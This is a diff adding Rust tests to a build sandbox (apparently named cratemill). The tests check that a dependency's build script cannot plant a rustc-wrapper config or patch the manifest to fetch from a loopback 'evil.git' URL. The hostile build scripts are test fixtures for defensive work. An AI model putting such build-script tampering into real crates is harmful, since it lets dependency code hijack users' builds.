@@ -278,3 +278,112 @@ fn main() {
     assert_eq!(filled.len(), 1, "the build script reported once");
     assert!(filled[0] <= 1024, "the sandbox's /tmp took {} MiB", filled[0]);
 }
+
+/// `app 0.1.0` depending on `dep ^1`, shipping a lock that pins `dep 1.0.0`.
+fn app_locked_to(dep_1_0_0: &support::sparse_registry::TestCrate) -> support::sparse_registry::TestCrate {
+    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n\n\
+                    [dependencies]\ndep = \"1\"\n";
+    let lock = format!(
+        "version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n \"dep\",\n]\n\n\
+         [[package]]\nname = \"dep\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n\
+         checksum = \"{}\"\n",
+        dep_1_0_0.cksum()
+    );
+    support::sparse_registry::TestCrate::new("app", "0.1.0")
+        .file("Cargo.toml", manifest)
+        .file("Cargo.lock", lock)
+        .file("src/main.rs", "fn main() { println!(\"app {}\", dep::answer()); }\n")
+        .dep("dep", "^1")
+}
+
+/// `dep` at `version` with `build_rs` and a lib that compiles only when `compiles`.
+fn dep(version: &str, build_rs: &str, compiles: bool) -> support::sparse_registry::TestCrate {
+    let manifest = format!("[package]\nname = \"dep\"\nversion = \"{version}\"\nedition = \"2021\"\n");
+    let lib = if compiles { "pub fn answer() -> u32 { 42 }\n" } else { "pub fn answer() -> u32 { no_such::f() }\n" };
+    let c =
+        support::sparse_registry::TestCrate::new("dep", version).file("Cargo.toml", manifest).file("src/lib.rs", lib);
+    if build_rs.is_empty() {
+        c
+    } else {
+        c.file("build.rs", build_rs)
+    }
+}
+
+/// The work folder, from a build script: the folder above OUT_DIR that holds `cargo-home`.
+const FIND_WORK: &str = r#"
+fn work() -> std::path::PathBuf {
+    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());
+    out.ancestors().find(|d| d.join("cargo-home").exists()).expect("the work folder").to_path_buf()
+}
+"#;
+
+/// Class 1: a dependency's build script plants a `.cargo/config.toml` with a `rustc-wrapper` above
+/// the crate (in the work folder and in `src/`), then fails to compile at its locked version, so the
+/// ladder sets the lock aside and fetches again, with the network. The planted wrapper never runs.
+#[test]
+fn class_1_a_config_planted_above_the_crate_never_runs_in_the_next_fetch() {
+    let build_rs = format!(
+        r##"{FIND_WORK}
+fn main() {{
+    use std::os::unix::fs::PermissionsExt;
+    let w = work();
+    let wrapper = w.join("wrapper.sh");
+    std::fs::write(&wrapper, format!("#!/bin/sh\necho ran >> {{}}/wrapper-ran\nexec \"$@\"\n", w.display())).unwrap();
+    std::fs::set_permissions(&wrapper, std::fs::Permissions::from_mode(0o755)).unwrap();
+    for dir in [w.join(".cargo"), w.join("src/.cargo")] {{
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join("config.toml"), format!("[build]\nrustc-wrapper = \"{{}}\"\n", wrapper.display())).unwrap();
+    }}
+    println!("cargo:warning=planted a rustc-wrapper config");
+}}
+"##
+    );
+    let broken = dep("1.0.0", &build_rs, false);
+    let reg = SparseRegistry::start(vec![app_locked_to(&broken), broken, dep("1.0.1", "", true)]);
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("out");
+    let o = build(&reg, "app@0.1.0", &out, &[], &[]);
+    let work = Work::of(&out);
+    let log = log_of(&out);
+    assert!(log.contains("planted a rustc-wrapper config"), "the attack ran:\n{log}");
+    assert!(!work.0.join("wrapper-ran").exists(), "the planted rustc-wrapper ran:\n{log}");
+    assert!(!work.0.join(".cargo").exists() && !work.0.join("src/.cargo").exists(), "the planted configs are gone");
+    assert!(log.contains("removed what crate code left to steer cargo"), "the log says so:\n{log}");
+    let r = built(&o, &out);
+    assert!(r.attempts.len() >= 2 && !r.attempts.last().unwrap().locked, "{:?}", r.attempts);
+}
+
+/// Class 1, the manifest: a dependency's build script adds a `[patch]` with a git URL (a loopback
+/// listener) to the crate's own manifest, then fails. cratemill fetches nothing for a tree crate code
+/// changed: no connection arrives, and the build fails saying why.
+#[test]
+fn class_1_a_manifest_changed_by_crate_code_is_never_fetched() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let build_rs = format!(
+        r##"{FIND_WORK}
+fn main() {{
+    let manifest = work().join("src/app-0.1.0/Cargo.toml");
+    let mut text = std::fs::read_to_string(&manifest).unwrap();
+    text.push_str("\n[patch.crates-io]\ndep = {{ git = \"http://127.0.0.1:{port}/evil.git\" }}\n");
+    std::fs::write(&manifest, text).unwrap();
+    println!("cargo:warning=patched the manifest");
+}}
+"##
+    );
+    let broken = dep("1.0.0", &build_rs, false);
+    let reg = SparseRegistry::start(vec![app_locked_to(&broken), broken, dep("1.0.1", "", true)]);
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("out");
+    // Bounded: without the guard the fetch waits on the listener until the time limit.
+    build(&reg, "app@0.1.0", &out, &["--timeout", "90s"], &[]);
+    let _work = Work::of(&out);
+    let log = log_of(&out);
+    assert!(log.contains("patched the manifest"), "the attack ran:\n{log}");
+    assert!(listener.accept().is_err(), "a connection arrived from the fetch");
+    let r = result_of(&out);
+    assert_eq!(r.status, Status::Failed);
+    let failure = r.failure.expect("a failure");
+    assert!(failure.message.contains("changed the crate's manifests"), "{}", failure.message);
+}
